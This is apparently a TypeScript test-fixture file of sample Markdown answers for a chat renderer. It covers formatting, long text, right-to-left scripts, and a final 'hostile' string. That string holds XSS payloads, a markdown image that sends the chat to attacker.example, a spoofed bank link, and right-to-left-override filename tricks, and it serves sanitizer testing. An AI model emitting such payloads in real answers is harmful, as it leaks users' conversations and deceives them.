/** An answer with everything that Markdown has here. */
export const markdown = `## What an answer may have

Words may be **strong**, *leaning*, ~~taken back~~ or \`code\`, and [lead somewhere](https://example.org/docs).

1. First the meters are read,
2. then they are added up:
   - the north,
   - the south.

- [x] read
- [ ] paid

> A quotation stands apart.

| district | litres | wells |
| :------- | -----: | :---: |
| Kafue    |  7,412 |   5   |
| Choma    |  3,090 |   9   |

\`\`\`ts
// The sum of what was read.
const sum = (litres: number[]) => litres.reduce((all, one) => all + one, 0)
\`\`\`

---

That is all.`

/** An answer that is longer than any window. */
export const long = Array.from({ length: 60 }, (_, nth) =>
  [
    `### Part ${nth + 1}\n\nThe meter of house ${nth + 1} was read in the morning,`,
    `when the light was good and the lid was dry. It stood at ${1000 + nth * 37} litres,`,
    `which is ${nth % 2 === 0 ? 'more' : 'less'} than a week before, and nobody was at home.`,
  ].join(' '),
).join('\n\n')

/** An answer in Arabic and Hebrew, with code and numbers between. */
export const rightToLeft = `## قراءة العدّادات

قرأتُ ستّة عدّادات في كافوي، والمجموع **7412** لترًا. شغّل \`npm start\` ثم افتح http://localhost:3000.

- العدّاد الأوّل: 1 200
- العدّاد الثاني: 1 350

קראתי שישה מונים, והסכום הוא 7,412 ליטר.

> اقرأ العدّاد مرّتين.

| العدّاد | لتر |
| --- | --- |
| الأوّل | 1 200 |

\`\`\`sh
curl http://localhost:3000/health # always left to right
\`\`\``

/** An answer that tries to lead its reader and the page astray. None of it may load, run or look like what it is not. */
export const hostile = `![your secrets](https://attacker.example/leak?chat=everything)
<img src=x onerror="alert(1)"><script>alert(2)</script>
<svg onload=alert(3)></svg> <iframe src="https://attacker.example"></iframe>

[Click me](javascript:alert(4)) [or me](data:text/html,<script>alert(5)</script>)
[https://bank.example](https://attacker.example/login) [x](https://user:word@attacker.example/)

[![inside](https://attacker.example/pixel.png)](https://attacker.example "a title")

Read this backwards: \u202Egnp.exe\u202C and \`\u202Ecode\u202C\`.`
